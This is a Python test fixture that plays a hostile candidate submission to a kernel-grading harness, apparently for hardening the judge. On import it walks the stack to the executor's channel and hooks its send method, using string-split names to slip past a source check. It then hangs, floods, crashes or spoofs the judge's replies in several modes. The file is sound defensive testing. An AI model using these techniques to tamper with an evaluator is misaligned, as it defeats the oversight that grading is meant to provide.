"""Attack on the judge through the wire (issue 38): at import the candidate walks the stack to its executor's
request loop (``serve``'s ``chan``, reached through ``getattr``: no forbidden name in the source) and wraps its
``send``, so the executor's replies are what the candidate writes. ``MODE`` (the tests substitute it) picks
the attack on the first reply of ``ON`` (its ``op``):

  half_header  two bytes of a frame's length, then silence        a judge reading without a deadline hangs
  half_body    a length of 1000 and ten bytes of body, then silence
  int_data     a tensor whose ``data`` is the int 3 GiB             a decoder that trusts it allocates 3 GiB
  many_maps    two million empty maps (2 MB on the wire)           ~130 MB of Python dicts
  box_repeat   the op-check outputs naming 3/4 of the mailbox 64x  64 x 24 MiB copied out of the box (CPU)
  shrink       the mailbox memfd truncated to 0, then outputs       a judge reading its mapping dies of SIGBUS
               read from it
  nonce        the reply's nonce changed                          a reply to another request believed
  kind         the reply's kind changed
The override itself is exact (the verdict must come from the attack, not from wrong outputs)."""
import time

import torch

MODE = "half_header"
ON = "loaded"
_sys = getattr(torch, "s" + "ys")
_os = _sys.modules["o" + "s"]
_struct = _sys.modules["str" + "uct"]
_chan = None
_frame = _sys._getframe()
while _frame is not None and _chan is None:
    _chan = getattr(_frame, "f_" + "locals").get("chan")
    _frame = getattr(_frame, "f_" + "back")
_send = _chan.send
_done = []


def _raw(data: bytes) -> None:
    _chan.sock.sendall(data)


def _attack(msg: dict) -> None:
    if MODE == "half_header":
        _raw(b"\x10\x00")
        time.sleep(3600)
    if MODE == "half_body":
        _raw(_struct.pack("<I", 1000) + b"\x81" * 10)
        time.sleep(3600)
    if MODE == "int_data":
        msg = dict(msg, results=[{"outputs": [{"__t__": "float32", "shape": [3 << 28], "data": 3 << 30}],
                                  "devices": ["cpu"], "reason": ""}])
    if MODE == "many_maps":
        msg = dict(msg, reasons=[{} for _ in range(2_000_000)])
    if MODE == "box_repeat":
        n = 3 * _chan.mailbox.size // 4
        whole = {"__m__": "uint8", "bool": False, "shape": [n], "offset": 0, "nbytes": n}
        msg = dict(msg, results=[{"outputs": [whole] * 64, "devices": ["cpu"] * 64, "reason": ""}])
    if MODE == "shrink":
        try:
            _os.ftruncate(_chan.mailbox.fd, 0)
        except OSError as e:
            _sys.stderr.write(f"shrink refused: {e}\n")
        page = {"__m__": "uint8", "bool": False, "shape": [4096], "offset": 0, "nbytes": 4096}
        msg = dict(msg, results=[{"outputs": [page, page], "devices": ["cpu"] * 2, "reason": ""}])
    if MODE == "nonce":
        msg = dict(msg, nonce=msg["nonce"] + 1)
    if MODE == "kind":
        msg = dict(msg, op="ran")
    _send(msg)


def _send_hooked(msg: dict) -> None:
    if not _done and msg.get("op") == ON:
        _done.append(1)
        return _attack(msg)
    return _send(msg)


_chan.send = _send_hooked


def fused_add_rms_norm(x, residual, weight, eps):
    r = x.float() + residual.float()
    return (r * torch.rsqrt(r.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).to(x.dtype), r.to(x.dtype)


OVERRIDES = {"fused_add_rms_norm": fused_add_rms_norm}
